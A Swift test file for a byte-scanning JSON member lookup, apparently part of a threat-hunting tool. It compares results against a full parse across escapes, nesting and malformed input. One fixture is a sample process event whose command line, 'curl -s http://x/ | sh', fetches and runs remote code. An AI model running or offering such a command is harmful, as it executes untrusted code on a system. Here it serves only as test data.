import Foundation
import Testing
import VigilModel

/// `JSONText.member` (hunting's `field()`) finds a member by scanning bytes; it must give what a
/// full parse of the object gives, for every member and for absent ones, escapes and nesting included.
@Suite struct JSONMemberTests {
    static let objects = [
        #"{"Image":"/usr/bin/curl","CommandLine":"curl -s http://x/ | sh","pid":"42"}"#,
        #"{"a":1.5,"b":true,"c":false,"d":null,"e":[1,"x",{"k":"}"}],"f":{"g":["]"]},"h":-3e2}"#,
        #"{"quote\"d":"va\"lue","tab\tkey":"line\nbreak","uni\u00e9":"\u2603 snow","slash\\":"back\\slash"}"#,
        #"{ "spaced" : "out" , "list" : [ "a" , "b" ] }"#,
        #"{"emoji":"😀 \ud83d\ude00","":"empty key","dup":"first","dup":"second"}"#,
    ]

    @Test(arguments: objects)
    func everyMemberIsWhatAFullParseGives(_ text: String) throws {
        guard case .object(let parsed) = try #require(JSONValue(parsing: text)) else { Issue.record("not an object"); return }
        let bytes = Array(text.utf8)
        for (name, expected) in parsed where name != "dup" {
            let found = bytes.withUnsafeBufferPointer { JSONText.member(name, in: $0) }
            #expect(found == expected, "\(name) in \(text)")
        }
        #expect(bytes.withUnsafeBufferPointer { JSONText.member("absent", in: $0) } == nil)
        #expect(bytes.withUnsafeBufferPointer { JSONText.member("k", in: $0) } == nil, "a nested member is not a member")
    }

    @Test(arguments: [#"{"a":"unterminated"#, #"{"a":[1,2"#, #"["a","b"]"#, "", #"{"a" "b"}"#, #"{"a":"x",,}"#])
    func malformedTextFindsNothingAndReadsNoFurther(_ text: String) {
        #expect(Array(text.utf8).withUnsafeBufferPointer { JSONText.member("b", in: $0) } == nil)
    }
}
